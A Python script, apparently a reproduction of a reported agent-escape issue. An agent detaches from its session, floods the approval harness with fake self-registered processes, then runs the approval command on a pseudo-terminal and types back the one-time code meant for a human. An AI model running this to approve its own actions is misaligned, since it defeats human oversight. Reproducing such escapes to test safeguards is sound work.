"""The agent's escape of issue 41, as its Bash tool would run it: flood the harness table, then approve.

``python flood_attacker.py AID DATA FAKES RESULT``:

1. detach (double fork and ``setsid``): the rest runs re-parented to init;
2. start ``FAKES`` small processes, each in a session of its own, each sending
   one valid ``pre_tool_use`` that names its own pid as ``harness_pid`` (so each
   is recorded as a harness of its own), and staying alive. They run another
   program than this one (``python -c``, from a fake maker of their own) and
   start after it: nothing about them taints the approver's ancestry, so only
   the real harness could, were it forgotten;
3. open a pseudo-terminal, run ``rematch approve AID`` on it (its controlling
   terminal), read the one-time code the service writes there and type it back;
4. end the fakes, and write ``RESULT`` (JSON: the approver's exit status, what
   the terminal showed, how many fakes were answered).
"""

from __future__ import annotations

import json
import os
import re
import select
import subprocess
import sys
import time
from pathlib import Path


def _fake(data: Path, gate: int) -> None:
    """One fake harness: a valid pre_tool_use naming itself the harness (a file read no rule holds), then wait
    until the gate closes."""
    from rematch_trace.live import client

    request = client.new_request(
        "pre_tool_use",
        {"session_id": f"fake-{os.getpid()}", "cwd": "/tmp", "hook_event_name": "PreToolUse", "tool_name": "Read",
         "tool_input": {"file_path": "/tmp/notes.txt"}, "tool_use_id": f"toolu_{os.getpid()}", "harness_pid": os.getpid()},
        adapter="claude_code", adapter_version="0.1.0", host_version="2.1.200", deadline_ms=60000)
    ok = client.send(request, data=data, start=False) is not None
    os.write(1, b"1" if ok else b"0")
    os.read(gate, 1)  # stays alive (a live harness) until the attacker closes the gate


def _read(fd: int, until: str, timeout: float) -> str:
    seen = b""
    end = time.monotonic() + timeout
    while not re.search(until, seen.decode(errors="replace")) and time.monotonic() < end:
        if select.select([fd], [], [], max(0.0, end - time.monotonic()))[0]:
            try:
                chunk = os.read(fd, 4096)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
    return seen.decode(errors="replace")


def fakes_main() -> None:
    """The fake maker (``python -c``): ``FAKES`` fakes, one byte on stdout per answered request; it then waits
    for its stdin to close, and ends them."""
    import rematch_trace.live.client  # noqa: F401  (imported once, before the forks)

    data, fakes = Path(sys.argv[1]), int(sys.argv[2])
    gate_r, gate_w = os.pipe()
    children = []
    for _ in range(fakes):
        pid = os.fork()
        if pid == 0:
            os.close(gate_w)
            os.setsid()  # a session and a group of its own: none that the approver's ancestry shares
            try:
                _fake(data, gate_r)
            finally:
                os._exit(0)
        children.append(pid)
    os.close(gate_r)
    sys.stdin.buffer.read()
    os.close(gate_w)
    for pid in children:
        os.waitpid(pid, 0)


def attack(aid: str, data: Path, fakes: int, result: Path, rematch: str) -> None:
    """Steps 2 to 4 of the module docstring (already detached)."""
    maker = subprocess.Popen(
        [sys.executable, "-c", f"import sys; sys.path.insert(0, {str(Path(__file__).parent)!r}); "
                               "import flood_attacker; flood_attacker.fakes_main()", str(data), str(fakes)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert maker.stdout is not None and maker.stdin is not None
    got = b""
    end = time.monotonic() + 150
    while len(got) < fakes and time.monotonic() < end:
        chunk = os.read(maker.stdout.fileno(), 4096)
        if not chunk:
            break
        got += chunk
    answered = got.count(b"1")

    master, slave = os.openpty()
    approver = subprocess.Popen(["setsid", "-c", rematch, "approve", aid, "--out", str(data)],
                                stdin=slave, stdout=slave, stderr=slave)
    os.close(slave)
    shown = _read(master, r"one-time code \(as shown above\): |Error", 60)
    code = re.search(r"approve \w+: (\d{4}-\d{4})", shown)
    if code is not None:
        os.write(master, code.group(1).encode() + b"\n")
    try:
        rc = approver.wait(60)
    except subprocess.TimeoutExpired:
        approver.kill()
        rc = approver.wait()
    shown += _read(master, r"$^", 0.5)
    os.close(master)
    maker.stdin.close()  # the fakes end
    maker.wait()
    tmp = result.with_suffix(".tmp")
    tmp.write_text(json.dumps({"rc": rc, "shown": shown, "answered": answered, "code_seen": code is not None,
                               "ppid": os.getppid(), "sid": os.getsid(0)}))
    tmp.replace(result)


def main() -> None:
    """Detach (double fork, setsid), then :func:`attack`."""
    aid, data, fakes, result = sys.argv[1], Path(sys.argv[2]), int(sys.argv[3]), Path(sys.argv[4])
    rematch = str(Path(sys.executable).parent / "rematch")
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    fd = os.open(os.devnull, os.O_RDWR)
    for i in (0, 1, 2):
        os.dup2(fd, i)
    time.sleep(0.2)  # the first child has exited: this one is init's now
    attack(aid, data, fakes, result, rematch)


if __name__ == "__main__":
    main()
